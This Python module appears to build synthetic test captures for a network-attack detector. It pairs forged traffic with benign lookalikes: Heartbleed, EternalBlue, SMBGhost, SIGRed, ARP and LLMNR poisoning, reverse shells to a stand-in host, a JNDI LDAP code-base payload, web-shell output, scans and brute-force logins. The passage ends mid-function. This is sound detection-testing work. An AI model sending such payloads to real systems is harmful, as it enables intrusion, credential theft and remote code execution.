"""Attacks on the network and its protocols, and beside each what looks like it and is none.

`plain-` in a capture's name says that nothing in it is an attack.
"""
import base64
import random
import struct

from wire import der, lan, net, tls
from wire.capture import Capture
from wire.flow import (ACK, CLIENT4, GET, OK, PSH, RST, SERVER4, SYN, SYN_OPTIONS, Flow, Ping, Tcp, Udp,
                       dns_name, http, icmp6)
from wire.net import eth, u8, u16, u32

VICTIM, ROUTER, LIAR = "192.168.7.20", "192.168.7.1", "192.168.7.66"
VICTIM_MAC, ROUTER_MAC, LIAR_MAC = (net.mac("3c:52:82:11:22:33"), net.mac("a4:5e:60:c2:18:07"),
                                    net.mac("b8:27:eb:66:66:66"))
FORGED = b"HTTP/1.1 302 Found\r\nLocation: http://203.0.113.66/\r\nContent-Length: 0\r\n\r\n"


def capture(name, about, steps):
    return Capture(name, about).talk(steps, eth)


def answered_twice(first, second, ttl=(64, 47), seq_back=0):
    """Two segments at one sequence number; the second counts on."""
    tcp = Tcp(CLIENT4, 40100, SERVER4, 80)
    steps = tcp.open() + tcp.data(GET)
    seq = tcp.seq[1]
    steps.append(tcp.ip(tcp.segment(ACK | PSH, first, True, seq=seq), True, ttl=ttl[0]))
    steps.append(tcp.ip(tcp.segment(ACK | PSH, second, True, seq=seq - seq_back), True, ttl=ttl[1]))
    tcp.seq[1] += len(second) - seq_back
    return steps + [tcp.put(ACK)] + tcp.close()


def injection():
    yield capture("injected-answer", "a forged redirect comes before the true answer",
                  answered_twice(FORGED, OK))
    yield capture("injected-late", "the forged answer comes second",
                  answered_twice(OK, FORGED, (47, 64)))
    yield capture("injected-garbage", "what comes first is no HTTP, and ends its reading",
                  answered_twice(b"BANG! BANG! BANG! BANG!\r\n" * 3, OK))
    yield capture("plain-sent-again", "the same answer twice, the second time in a larger segment",
                  answered_twice(OK[:40], OK, (47, 47)))
    damaged = OK[:20] + bytes([OK[20] ^ 4]) + OK[21:]
    yield capture("plain-damaged", "an answer with a bit that flipped, and sent again",
                  answered_twice(damaged, OK, (47, 47)))
    tcp = Tcp(CLIENT4, 40101, SERVER4, 80)
    steps = tcp.open() + tcp.data(GET) + tcp.data(OK, True)
    steps += [tcp.ip(tcp.segment(ACK, b"\0", seq=tcp.seq[0] - 1)), tcp.put(ACK, back=True)] * 4
    yield capture("plain-keep-alives", "keep-alive probes with a byte of their own", steps)
    tcp = Tcp(CLIENT4, 40102, SERVER4, 9000)
    tcp.open()
    steps = [tcp.ip(tcp.segment(ACK | PSH, b"sample %02d of a generator" % i, seq=0, ack=0))
             for i in range(20)]
    yield capture("plain-generator", "a generator of packets that never counts its bytes", steps)


def two_synacks():
    for name, about, ttls in (
            ("injected-synack", "two answers to one SYN, from different distances", (64, 47)),
            ("plain-synack-again", "a server that chose another number: the same distance", (47, 47))):
        tcp = Tcp(CLIENT4, 40110, SERVER4, 80)
        steps = [tcp.put(SYN, options=SYN_OPTIONS)]
        other = tcp.ip(tcp.segment(SYN | ACK, b"", True, seq=77777, options=SYN_OPTIONS), True,
                       ttl=ttls[1])
        steps += [tcp.put(SYN | ACK, back=True, options=SYN_OPTIONS, ttl=ttls[0]), other,
                  tcp.put(ACK)]
        yield capture(name, about, steps + tcp.data(GET) + tcp.data(OK, True) + tcp.close())


def heartbeat(kind, claimed, payload, padding=16):
    return tls.record(24, u8(kind) + u16(claimed) + payload + b"\0" * padding)


def greeting(rng, heartbeats=True, suite=0xC02F):
    """Both hellos, the server's certificate left out: (is it the server's, bytes)."""
    extra = ((15, b"\x01"),) if heartbeats else ()
    hello = tls.record(22, tls.client_hello_message(tls.GO, b"shop.example.com", rng, extra=extra), tls.TLS10)
    ours = tls.server_hello(suite, rng)
    if heartbeats:
        body = ours[4:]
        tail = u16(15) + u16(1) + b"\x01"
        at = 2 + 32 + 1 + 2 + 1
        size = struct.unpack(">H", body[at:at + 2])[0] + len(tail)
        ours = tls.handshake(2, body[:at] + u16(size) + body[at + 2:] + tail)
    answer = tls.record(22, ours) + tls.record(22, tls.server_key_exchange(rng) + tls.HELLO_DONE)
    return [(False, hello), (True, answer)]


def finished(rng):
    return [(False, tls.record(22, tls.handshake(16, b"\x20" + rng.randbytes(32)))
             + tls.CHANGE_CIPHER_SPEC + tls.record(22, rng.randbytes(40))),
            (True, tls.CHANGE_CIPHER_SPEC + tls.record(22, rng.randbytes(40)))]


def tls_talk(name, about, port, messages):
    tcp = Tcp(CLIENT4, port, SERVER4, 443)
    steps = tcp.open()
    for back, data in messages:
        steps += tcp.data(data, back)
    return capture(name, about, steps + tcp.close())


def heartbleed():
    rng = random.Random(160)
    yield tls_talk("heartbleed-clear", "a heartbeat of no payload claims 16 KiB, and gets them", 40120,
                   greeting(rng) + [(False, heartbeat(1, 16384, b"", 0)),
                                    (True, heartbeat(2, 16000, rng.randbytes(16000)))])
    yield tls_talk("heartbleed-tried", "the same of a server that is mended", 40121,
                   greeting(rng) + [(False, heartbeat(1, 16384, b"", 0)), (True, tls.record(21, b"\x02\x32"))])
    yield tls_talk("heartbleed-encrypted", "inside the encryption, sizes alone tell", 40122,
                   greeting(rng) + finished(rng) + [(False, tls.record(24, rng.randbytes(32))),
                                                    (True, tls.record(24, rng.randbytes(16408)))])
    yield tls_talk("heartbleed-cbc", "the same under AES in CBC mode, with an IV in each record", 40124,
                   greeting(rng, suite=0xC013) + finished(rng) + [(False, tls.record(24, rng.randbytes(48)))])
    yield tls_talk("plain-heartbeat-cbc", "the shortest sound one", 40125,
                   greeting(rng, suite=0xC013) + finished(rng) + [(False, tls.record(24, rng.randbytes(64))),
                                                                  (True, tls.record(24, rng.randbytes(64)))])
    yield tls_talk("plain-heartbeats", "heartbeats as they should be, in clear and encrypted", 40123,
                   greeting(rng) + [(False, heartbeat(1, 20, rng.randbytes(20))),
                                    (True, heartbeat(2, 20, rng.randbytes(20)))] + finished(rng)
                   + [(False, tls.record(24, rng.randbytes(69))), (True, tls.record(24, rng.randbytes(69))),
                      (False, tls.record(23, rng.randbytes(500))), (True, tls.record(23, rng.randbytes(9000)))])


def smb2_negotiate(dialects, contexts):
    """SMB 2 NEGOTIATE; contexts as (type, data)."""
    head = b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ", 64, 0, 0, 0, 31, 0, 0, 0, 0, 0, 0) + b"\0" * 16
    at = (64 + 36 + 2 * len(dialects) + 7) & ~7
    body = struct.pack("<HHHHI", 36, len(dialects), 1, 0, 0x7F) + b"\x11" * 16
    body += struct.pack("<IHH", at, len(contexts), 0) + struct.pack("<%dH" % len(dialects), *dialects)
    message = (head + body).ljust(at, b"\0")
    for kind, data in contexts:
        message = message.ljust((len(message) + 7) & ~7, b"\0") + struct.pack("<HHI", kind, len(data), 0) + data
    return message


PREAUTH = (1, struct.pack("<HHH", 1, 4, 1) + b"salt")


def compression(*algorithms):
    return (3, struct.pack("<HHI", len(algorithms), 0, 0) + struct.pack("<%dH" % len(algorithms), *algorithms))


def smb_talk(name, about, port, messages):
    tcp = Tcp(CLIENT4, port, SERVER4, 445)
    steps = tcp.open()
    for back, message in messages:
        steps += tcp.data(u32(len(message)) + message, back)
    return capture(name, about, steps + tcp.close())


def smbghost():
    windows, test = (0x0202, 0x0210, 0x0300, 0x0302, 0x0311), (0x0202, 0x0210, 0x0222, 0x0224, 0x0300,
                                                             0x0302, 0x0310, 0x0311)
    hello = smb2_negotiate(windows, [PREAUTH, compression(1, 2, 3)])
    overflow = b"\xfcSMB" + struct.pack("<IHHI", 0xFFFFFFFF, 1, 0, 16) + b"A" * 64
    sound = b"\xfcSMB" + struct.pack("<IHHI", 4096, 1, 0, 64) + b"A" * 300
    yield smb_talk("smbghost", "a compressed message whose sizes overflow", 40130,
                   [(False, hello), (False, overflow)])
    yield smb_talk("smbghost-probe", "compression offered with dialects of pre-releases", 40131,
                   [(False, smb2_negotiate(test, [PREAUTH, compression(1)]))])
    yield smb_talk("plain-smb-compressed", "compression as Windows offers and uses it", 40132,
                   [(False, hello), (False, sound)])
    yield smb_talk("plain-smb-prerelease", "an old client that offers pre-releases, without compression",
                   40133, [(False, smb2_negotiate(test, [PREAUTH]))])


def smb1(command, words, data=b"", reply=False, multiplex=64, status=0):
    head = b"\xffSMB" + u8(command) + struct.pack("<IBH", status, 0x98 if reply else 0x18, 0xC007)
    head += b"\0" * 12 + struct.pack("<HHHH", 2048, 65279, 2048, multiplex)
    return head + u8(len(words) // 2) + words + struct.pack("<H", len(data)) + data


def transaction(setup, total_data=0):
    return struct.pack("<HHHHBBHIHHHHHBB", 0, total_data, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
                       len(setup) // 2, 0) + setup


def nt_transact(function, total):
    return struct.pack("<BHIIIIIIIIBH", 1, 0, 30, total, 30, 0, 30, 75, 976, 104, 0, function)


def ms17_010():
    yield smb_talk("eternalblue", "NT_TRANSACT of no function announces 66,512 bytes", 40140,
                   [(False, smb1(0xA0, nt_transact(0, 66512), b"\0" * 100)),
                    (True, smb1(0xA0, b"", reply=True))])
    yield smb_talk("doublepulsar", "the implant is called, and answers", 40141,
                   [(False, smb1(0x32, transaction(struct.pack("<H", 0x0E)), multiplex=65)),
                    (True, smb1(0x32, b"", reply=True, multiplex=81, status=0xC0000002))])
    yield smb_talk("ms17-010-check", "a look into pipe 0", 40142,
                   [(False, smb1(0x25, transaction(struct.pack("<HH", 0x23, 0)))),
                    (True, smb1(0x25, b"", reply=True, status=0xC0000205))])
    yield smb_talk("plain-transactions", "a query for a file, a security descriptor, a look into a real pipe",
                   40143,
                   [(False, smb1(0x32, transaction(struct.pack("<H", 5)))), (True, smb1(0x32, b"", reply=True)),
                    (False, smb1(0xA0, nt_transact(6, 0))), (True, smb1(0xA0, b"", reply=True)),
                    (False, smb1(0x25, transaction(struct.pack("<HH", 0x23, 0x4001)))),
                    (True, smb1(0x25, b"", reply=True))])


def dns_over_tcp(kind, rdata):
    question = dns_name("9.example.com") + u16(kind) + u16(1)
    message = u16(7) + u16(0x8180) + u16(1) + u16(1) + u16(0) * 2 + question
    message += b"\xc0\x0c" + u16(kind) + u16(1) + u32(32) + u16(len(rdata)) + rdata
    return u16(len(message)) + message


def sigred():
    fixed = u16(1) + b"\x05\x00" + u32(32) + u32(1752605215) + u32(1563216415) + u16(40452)
    # the pointer leads into the question's name, whose "9" is then a label of 57 bytes; two of 63 follow
    signature = b"\x0f" * 8 + (b"\x3f" + b"s" * 63) * 2 + b"\0"
    for name, about, port, kind, rdata in (
            ("sigred", "a signature of 65,470 bytes whose signer's name is packed", 40150, 24,
             fixed + b"\xc0\x0d" + signature.ljust(65450, b"\x0f")),
            ("plain-sig", "a signature of 256 bytes", 40151, 24, fixed + b"\xc0\x0c" + b"\x0f" * 256),
            ("plain-long-answer", "60 KiB of text", 40152, 16, (b"\xff" + b"t" * 255) * 240)):
        tcp = Tcp(CLIENT4, port, SERVER4, 53)
        query = u16(7) + u16(0x0100) + u16(1) + u16(0) * 3 + dns_name("9.example.com") + u16(kind) + u16(1)
        steps = tcp.open() + tcp.data(u16(len(query)) + query) + tcp.data(dns_over_tcp(kind, rdata), True)
        yield capture(name, about, steps + tcp.close())


def certificate(algorithm, key):
    """Just enough of one."""
    who = der.seq(der.setof(der.seq(der.oid("2.5.4.3"), der.utf8("shop.example.com"))))
    times = der.seq(der.tlv(0x17, b"260101000000Z"), der.tlv(0x17, b"270101000000Z"))
    body = der.seq(der.ctx(0, der.integer(2)), der.integer(4711), algorithm, who, times, who,
                   der.seq(key, der.bits(b"\x04" + b"\x55" * 64)))
    return der.seq(body, algorithm, der.bits(b"\x5a" * 64))


def certificates():
    rng = random.Random(3194)
    sha256, mgf1, pss = "2.16.840.1.101.3.4.2.1", "1.2.840.113549.1.1.8", "1.2.840.113549.1.1.10"
    ec, p256 = der.oid("1.2.840.10045.2.1"), der.oid("1.2.840.10045.3.1.7")
    named = der.seq(ec, p256)
    own = der.seq(ec, der.seq(der.integer(1), der.seq(der.oid("1.2.840.10045.1.1"), der.integer(2**255 - 19))))

    def signature(mask):
        return der.seq(der.oid(pss), der.seq(der.ctx(0, der.seq(der.oid(sha256))),
                                             der.ctx(1, der.seq(der.oid(mgf1), *mask)),
                                             der.ctx(2, der.integer(222))))
    sound = signature([der.seq(der.oid(sha256))])
    for name, about, port, cert in (
            ("pss-without-hash", "RSASSA-PSS whose mask has no hash", 40160, certificate(signature([]), named)),
            ("own-curve", "a curve by its parameters", 40161, certificate(sound, own)),
            ("plain-pss", "RSASSA-PSS and a curve as they should be", 40162, certificate(sound, named))):
        hello = tls.record(22, tls.client_hello_message(tls.GO, b"shop.example.com", rng), tls.TLS10)
        answer = tls.record(22, tls.server_hello(0xC02F, rng) + tls.certificate([cert]))
        yield tls_talk(name, about, port, [(False, hello), (True, answer)])


def arp(cap, src_mac, src, dst, op=1, dst_mac=b"\0" * 6, gap_us=1000, sender=None):
    to = dst_mac if op == 2 or any(dst_mac) else b"\xff" * 6
    cap.add(eth(net.arp(src_mac, src, dst, op, dst_mac), net.ETH_ARP, src=sender or src_mac, dst=to), skip="not_ip",
            gap_us=gap_us)


def page(cap, port, by_mac):
    """The victim fetches a page; its packets go to by_mac."""
    for step in http(VICTIM, port, SERVER4):
        cap.add(eth(step.packet, src=by_mac if step.back else VICTIM_MAC, dst=VICTIM_MAC if step.back else by_mac),
                step.flow, step.back)


def poisoned():
    cap = Capture("arp-poisoned", "the router's address claimed by another; traffic follows")
    arp(cap, VICTIM_MAC, VICTIM, ROUTER)
    arp(cap, ROUTER_MAC, ROUTER, VICTIM, 2, VICTIM_MAC)
    page(cap, 40170, ROUTER_MAC)
    arp(cap, LIAR_MAC, LIAR, ROUTER, gap_us=2000000)
    for _ in range(3):
        arp(cap, LIAR_MAC, ROUTER, VICTIM, 2, VICTIM_MAC, gap_us=2000000)
    page(cap, 40171, LIAR_MAC)
    yield cap
    cap = Capture("arp-between", "a host answers a router and its neighbour for each other, over and over, then puts it right")
    for asked in (VICTIM, ROUTER):
        arp(cap, LIAR_MAC, LIAR, asked)
    arp(cap, VICTIM_MAC, VICTIM, LIAR, 2, LIAR_MAC)
    arp(cap, ROUTER_MAC, ROUTER, LIAR, 2, LIAR_MAC, gap_us=1000000)
    arp(cap, VICTIM_MAC, VICTIM, ROUTER)
    arp(cap, ROUTER_MAC, ROUTER, VICTIM, 2, VICTIM_MAC)
    for _ in range(5):
        arp(cap, LIAR_MAC, ROUTER, VICTIM, 2, VICTIM_MAC)
        arp(cap, LIAR_MAC, VICTIM, ROUTER, 2, ROUTER_MAC, gap_us=1000000)
    for _ in range(3):
        arp(cap, ROUTER_MAC, ROUTER, VICTIM, 2, VICTIM_MAC, sender=LIAR_MAC)
        arp(cap, VICTIM_MAC, VICTIM, ROUTER, 2, ROUTER_MAC, sender=LIAR_MAC, gap_us=1000000)
    yield cap
    cap = Capture("plain-arp", "questions and answers, an announcement, a virtual router that moves")
    virtual = net.mac("00:00:5e:00:01:07")
    arp(cap, VICTIM_MAC, "0.0.0.0", VICTIM, gap_us=3000000)
    arp(cap, VICTIM_MAC, VICTIM, VICTIM)
    arp(cap, VICTIM_MAC, VICTIM, ROUTER)
    arp(cap, virtual, ROUTER, VICTIM, 2, VICTIM_MAC, gap_us=2000000)
    page(cap, 40172, virtual)
    arp(cap, virtual, ROUTER, ROUTER, 2, b"\xff" * 6)
    for i in range(3):
        arp(cap, VICTIM_MAC, VICTIM, "192.168.7.%d" % (30 + i))
        arp(cap, ROUTER_MAC, "192.168.7.%d" % (30 + i), VICTIM, 2, VICTIM_MAC)
    yield cap
    cap = Capture("plain-arp-moved", "DHCP gave an address to another host; a laptop is docked")
    for src_mac in (VICTIM_MAC, LIAR_MAC):
        arp(cap, src_mac, VICTIM, VICTIM, gap_us=60000000)
        arp(cap, src_mac, VICTIM, ROUTER)
        arp(cap, ROUTER_MAC, ROUTER, VICTIM, 2, src_mac, gap_us=60000000)
    yield cap
    cap = Capture("plain-arp-answers", "a capture that sees the answers of several, not who asked")
    for i in range(6):
        arp(cap, net.mac("3c:52:82:00:00:%02x" % i), "192.168.7.%d" % (40 + i), ROUTER, 2, ROUTER_MAC,
            gap_us=2000000)
    yield cap


def arp_scan():
    cap = Capture("arp-scan", "a host asks for everybody in turn")
    for i in range(1, 120):
        arp(cap, LIAR_MAC, LIAR, "192.168.7.%d" % i, gap_us=5000)
    yield cap
    cap = Capture("plain-arp-router", "a router asks for whom it has packets, and again")
    order = list(range(1, 80))
    random.Random(7).shuffle(order)
    for _ in range(2):
        for i in order:
            arp(cap, ROUTER_MAC, ROUTER, "192.168.7.%d" % i, gap_us=900000)
    yield cap


def opened(name, about, messages, port=40200, dport=4444, src=VICTIM, dst="203.0.113.66"):
    """A raw connection; messages as (is it the server's, bytes)."""
    tcp = Tcp(src, port, dst, dport)
    steps = tcp.open()
    for back, data in messages:
        steps += tcp.data(data, back)
    return capture(name, about, steps + tcp.close())


CMD = b"Microsoft Windows [Version 10.0.19045.4046]\r\n(c) Microsoft Corporation.\r\n\r\nC:\\Users\\jdoe>"
PE = (b"MZ\x90\0" + b"\0" * 56 + u32(0x80000000) + b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
      b"This program cannot be run in DOS mode.\r\r\n$" + b"\0" * 400)
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 300


def shells():
    yield opened("shell-back", "a prompt of Windows that calls out", [(False, CMD), (True, b"whoami\r\n"),
                                                                      (False, b"whoami\r\ncorp\\jdoe\r\n")])
    yield opened("shell-unix", "a shell without a terminal that calls out",
                 [(False, b"/bin/sh: 0: can't access tty; job control turned off\n$ "), (True, b"id\n")], 40201)
    yield opened("shell-root", "a shell that is told to say who it is",
                 [(True, b"id\n"), (False, b"uid=0(root) gid=0(root) groups=0(root)\n")], 40202)
    yield opened("staged-program", "the length of a program, then the program",
                 [(True, struct.pack("<I", 180000)), (True, PE)], 40203)
    yield opened("raw-program", "an ELF program from outside, without any protocol", [(True, ELF)], 40204, 8123)
    yield opened("mining", "Stratum", [(False, b'{"id":1,"method":"mining.subscribe","params":["miner/1.0"]}\n'),
                                       (True, b'{"id":1,"result":[["mining.notify","ae68"],"f8002c",4]}\n')],
                 40205, 3333)
    control = Tcp(VICTIM, 40206, "203.0.113.21", 21)
    steps = control.open() + control.data(b"220 FTP server ready\r\n", True)
    for line, reply in ((b"USER anonymous\r\n", b"331 ok\r\n"), (b"PASS a@example.com\r\n", b"230 in\r\n"),
                        (b"PASV\r\n", b"227 Entering (203,0,113,21,200,1)\r\n"), (b"RETR tool\r\n", b"150 here\r\n")):
        steps += control.data(line) + control.data(reply, True)
    data = Tcp(VICTIM, 40207, "203.0.113.21", 51201)
    steps += data.open() + data.data(ELF, True) + data.close() + control.data(b"226 done\r\n", True) + control.close()
    yield capture("plain-ftp-program", "a program fetched by FTP", steps)
    page = Tcp(VICTIM, 40208, "203.0.113.21", 8080)
    steps = page.open() + page.data(b"GET /setup.exe HTTP/1.1\r\nHost: files.example\r\n\r\n")
    page.data(b"HTTP/1.1 200 OK\r\nContent-Length: 5000\r\n\r\n", True)  # was not captured
    yield capture("plain-program-behind-hole", "a program over HTTP, the answer's head lost by the capture",
                  steps + page.data(PE, True) + page.close())
    yield opened("plain-text", "lines that speak of Windows, Linux and users",
                 [(True, b"Linux in a nutshell: uid=, gid= and all that\n"), (False, b"uid=7 asked\n")], 40208, 7000)
    yield opened("plain-json", "calls of another kind", [(False, b'{"id":1,"method":"login","params":["jdoe"]}\n')],
                 40209, 7001)


def rdp_channels(names):
    """A connection request of RDP's own security, and the connect initial with these channels."""
    request = b"\x03\0\0\x13\x0e\xe0\0\0\0\0\0\x01\0\x08\0" + u32(0)
    net_block = struct.pack("<HHI", 0xC003, 8 + 12 * len(names), len(names))
    net_block += b"".join(name.ljust(8, b"\0") + struct.pack("<I", 0x80800000) for name in names)
    body = b"\x7f\x65\x82\0\0" + b"\x04\x01\x01" * 2 + b"Duca" + u8(len(net_block)) + net_block
    initial = b"\x03\0" + u16(7 + len(body)) + b"\x02\xf0\x80" + body
    confirm = b"\x03\0\0\x13\x0e\xd0\0\0\x12\x34\0\x02\0\x08\0" + u32(0)
    return [(False, request), (True, confirm), (False, initial)]


def bluekeep():
    yield opened("bluekeep", "the server's own channel is asked for", rdp_channels([b"rdpsnd", b"MS_T120"]), 40210,
                 3389, dst=SERVER4)
    yield opened("plain-rdp", "sound, drives and clipboard", rdp_channels([b"rdpdr", b"rdpsnd", b"cliprdr"]), 40211,
                 3389, dst=SERVER4)


def probes(name, about, packets):
    """Packets as (destination port, flags), each refused."""
    steps = []
    for i, (dport, flags) in enumerate(packets):
        tcp = Tcp(LIAR, 50000 + i, VICTIM, dport)
        steps.append(tcp.put(flags))
        steps.append(tcp.put(RST | ACK, back=True))
    return capture(name, about, steps)


def stealth():
    ports = (21, 22, 23, 25, 80, 110, 135, 139, 143, 443, 445, 993, 995, 1433, 3306, 3389, 5900, 8080)
    yield probes("null-scan", "packets without flags", [(port, 0) for port in ports])
    yield probes("xmas-scan", "FIN, PSH and URG", [(port, 0x29) for port in ports])
    yield probes("ack-scan", "bare ACKs", [(port, ACK) for port in ports])
    yield probes("os-probes", "the sets of flags by which an operating system is told",
                 [(135, 0), (135, 0x2B), (1, 0x29), (1, SYN), (135, ACK)])
    steps = []
    for i in range(20):
        tcp = Tcp(VICTIM, 50100 + i, SERVER4, 443)
        steps += [tcp.put(0x11, back=True), tcp.put(ACK), tcp.put(0x11), tcp.put(ACK, back=True)]
    yield capture("plain-closing", "connections whose ends are all that was captured", steps)


def llmnr(name, asker, answerer, sport, ident):
    """One name asked of everybody, and one answer; None: nobody answers."""
    ask, reply = Udp(asker, sport, "224.0.0.252", 5355), Udp(asker, sport, answerer or LIAR, 5355)
    steps = [ask.send(lan.query(ident, name))]
    return steps + ([reply.send(lan.llmnr_answer(ident, name, answerer), back=True)] if answerer else [])


def poisoned_names():
    names = ("fileserv", "printsrv", "wpad", "intranett")
    yield capture("names-poisoned", "one host answers for whatever name is asked for",
                  sum((llmnr(n, VICTIM, LIAR, 50300 + i, i) for i, n in enumerate(names)), []))
    own = [("ws-%d" % i, "192.168.7.%d" % (30 + i)) for i in range(6)]
    yield capture("plain-names", "each host answers for its own name",
                  sum((llmnr(n, VICTIM, a, 50320 + i, i) for i, (n, a) in enumerate(own)), []))


def refused(count, port):
    tcp = Tcp("203.0.113.66", port, "192.168.7.21", 21)
    steps = tcp.open() + tcp.data(b"220 FTP server ready\r\n", True)
    for i in range(count):
        steps += tcp.data(b"USER admin\r\n") + tcp.data(b"331 Password required\r\n", True)
        steps += tcp.data(b"PASS %d\r\n" % i) + tcp.data(b"530 Login incorrect.\r\n", True)
    return steps + tcp.close()


def telnet_tries(count, port):
    tcp = Tcp("203.0.113.66", port, "192.168.7.23", 23)
    steps = tcp.open() + tcp.data(b"\xff\xfd\x18\xff\xfd\x20", True) + tcp.data(b"\xff\xfb\x18\xff\xfb\x20")
    for i in range(count):
        steps += tcp.data(b"host login: ", True) + tcp.data(b"admin\r\n")
        steps += tcp.data(b"Password: ", True) + tcp.data(b"%d\r\n" % i) + tcp.data(b"\r\nLogin incorrect\r\n", True)
    return steps + tcp.close()


def web_tries(lines, port, status):
    tcp = Tcp("203.0.113.66", port, "192.168.7.24", 80)
    steps = tcp.open()
    for line in lines:
        steps += tcp.data(b"GET %s\r\nHost: www.example.com\r\n\r\n" % line)
        steps += tcp.data(b"HTTP/1.1 %s\r\nContent-Length: 0\r\n\r\n" % status, True)
    return steps + tcp.close()


def registrations(rounds):
    """REGISTERs of one telephone, each with credentials and the status that answers it."""
    udp = Udp("203.0.113.66", 5061, "192.168.7.22", 5060)
    steps = []
    for i, status in enumerate(rounds):
        steps.append(udp.send(
            b"REGISTER sip:192.168.7.22 SIP/2.0\r\nVia: SIP/2.0/UDP 203.0.113.66:5061;branch=z9hG4bK-%d\r\n"
            b"From: <sip:100@192.168.7.22>;tag=1\r\nTo: <sip:100@192.168.7.22>\r\nCall-ID: 1\r\nCSeq: %d REGISTER\r\n"
            b'Authorization: Digest username="100", realm="x", nonce="1", uri="sip:x", response="%032x"\r\n'
            b"Content-Length: 0\r\n\r\n" % (i, i, i)))
        steps.append(udp.send(b"SIP/2.0 %s\r\nCSeq: %d REGISTER\r\n"
                              b'WWW-Authenticate: Digest realm="x", nonce="1"%s\r\nContent-Length: 0\r\n\r\n'
                              % (status, i, b", stale=true" if b"Stale" in status else b""), True))
    return steps


def answers():
    yield capture("sip-guessed", "eight passwords of a telephone refused", registrations([b"401 Unauthorized"] * 8))
    yield capture("plain-sip-phone", "a telephone whose nonces grow old",
                  registrations([b"401 Stale", b"200 OK"] * 8))
    for name, about, path, body in (
            ("web-shell", "a page that runs commands", b"/images/a.php?c=id", b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"),
            ("web-shell-windows", "... on Windows", b"/a.aspx?c=dir",
             b"<pre>\r\n Volume in drive C has no label.\r\n Volume Serial Number is 1234-5678\r\n"),
            ("passwd-read", "a file that a page reads in", b"/page?file=x", b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/:/bin/false\n"),
            ("plain-web-answer", "a page that speaks of such", b"/help", b"The command id prints uid=33(www-data) gid=33(www-data)\n")):
        tcp = Tcp("203.0.113.66", 40228, "192.168.7.24", 80)
        yield capture(name, about, tcp.open() + tcp.data(b"GET %s HTTP/1.1\r\nHost: www.example.com\r\n\r\n" % path) + tcp.data(
            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n" % len(body) + body, True) + tcp.close())


def basic(i):
    return b"/admin HTTP/1.1\r\nAuthorization: Basic " + base64.b64encode(b"admin:%d" % i)


def guesses():
    words = b"admin backup old test dev login user data api img css js tmp log private secret config setup".split()
    yield capture("telnet-guessed", "eight passwords refused by Telnet", telnet_tries(3, 40223) + telnet_tries(5, 40224))
    yield capture("paths-guessed", "a list of words, asked for one by one",
                  web_tries([b"/%s%s HTTP/1.1" % (w, e) for w in words for e in (b"", b".php")], 40225, b"404 Not Found"))
    yield capture("web-guessed", "twelve passwords refused", web_tries(map(basic, range(12)), 40226, b"401 Unauthorized"))
    yield capture("plain-web-mistyped", "two passwords mistyped", web_tries(map(basic, range(2)), 40227, b"401 Unauthorized"))
    yield capture("ftp-guessed", "eight passwords refused by FTP", refused(3, 40220) + refused(5, 40221))
    yield capture("plain-ftp-mistyped", "two passwords mistyped", refused(2, 40222))
    for name, about, agent in (("sip-scanner", "a tool that looks for telephones", b"friendly-scanner"),
                               ("plain-sip", "a telephone", b"Phone 4.2")):
        udp = Udp("203.0.113.66", 5060, "192.168.7.22", 5060)
        yield capture(name, about, [udp.send(
            b"OPTIONS sip:100@192.168.7.22 SIP/2.0\r\nVia: SIP/2.0/UDP 203.0.113.66:5060;branch=z9hG4bK-1\r\n"
            b"From: <sip:100@1.1.1.1>;tag=1\r\nTo: <sip:100@1.1.1.1>\r\nCall-ID: 1\r\nCSeq: 1 OPTIONS\r\n"
            b"User-Agent: " + agent + b"\r\nContent-Length: 0\r\n\r\n")])


def broken_fragments():
    flow = Udp(LIAR, 40230, VICTIM, 53)
    first, last = flow.datagram(b"\0" * 28)[:32], b"\xff" * 4
    yield capture("teardrop", "the last fragment ends inside of the first", [
        flow.ip(first, ident=242, flags=1), flow.ip(last, ident=242, flags=0, offset=24)])
    ping = Ping(LIAR, VICTIM, 7)
    data = ping.echo(1, payload=b"x" * 1472).packet[20:]
    cap = Capture("ping-of-death", "fragments of an echo that reach beyond 65,535 bytes")
    for i, offset in enumerate(list(range(0, 65120, 1480)) + [65120]):
        last = offset == 65120
        cap.add(eth(net.ip4(LIAR, VICTIM, net.ICMP, data if offset == 0 else b"x" * 1480, ident=99,
                            flags=0 if last else 1, offset=offset)), ping, gap_us=200)
    yield cap
    whole = flow.datagram(b"y" * 3000)
    other = flow.datagram(b"z" * 3000)
    yield capture("plain-ident-reused", "pieces of two datagrams of one identification", [
        flow.ip(data[at:at + 1480], ident=244, flags=int(at + 1480 < len(data)), offset=at)
        for data, at in ((whole, 0), (other, 0), (other, 1480), (other, 2960))])
    yield capture("plain-fragments", "a datagram in fragments, one of them twice", [
        flow.ip(whole[at:at + 1480], ident=243, flags=int(at + 1480 < len(whole)), offset=at)
        for at in (0, 1480, 1480, 2960)])


def ldap_message(number, operation):
    return der.seq(der.integer(number), operation)


def java_by_ldap():
    def entry(*attributes):
        listed = [der.seq(der.octets(key), der.setof(der.octets(value))) for key, value in attributes]
        return ldap_message(2, der.tlv(0x64, der.octets(b"a"), der.seq(*listed)))
    search = ldap_message(2, der.tlv(0x63, der.octets(b"a"), der.enumerated(0), der.enumerated(3), der.integer(0),
                                     der.integer(0), der.boolean(False), der.octets(b"objectClass", 0x87), der.seq()))
    for name, about, port, answer in (
            ("ldap-java", "an entry that says where to load Java code", 40240,
             entry((b"javaClassName", b"foo"), (b"javaCodeBase", b"http://203.0.113.66:8888/"),
                   (b"objectClass", b"javaNamingReference"), (b"javaFactory", b"Exploit"))),
            ("plain-ldap", "an entry of a person", 40241, entry((b"cn", b"J. Doe"), (b"mail", b"jdoe@example.com")))):
        yield opened(name, about, [(False, search), (True, answer)], port, 1389)


def leases():
    def asked(cap, client_mac, address, gap_us):
        message = lan.dhcp(1, 7, client_mac, [(53, b"\x03"), (50, net.addr(address))])
        cap.add(eth(lease.send(message).packet, src=client_mac, dst=b"\xff" * 6), lease, gap_us=gap_us)
    lease = Udp("0.0.0.0", 68, "255.255.255.255", 67)
    cap = Capture("dhcp-scan", "one client asks for one address after the other")
    for i in range(12):
        asked(cap, LIAR_MAC, "192.168.7.%d" % (100 + i), 900000)
    yield cap
    lease = Udp("0.0.0.0", 68, "255.255.255.255", 67)
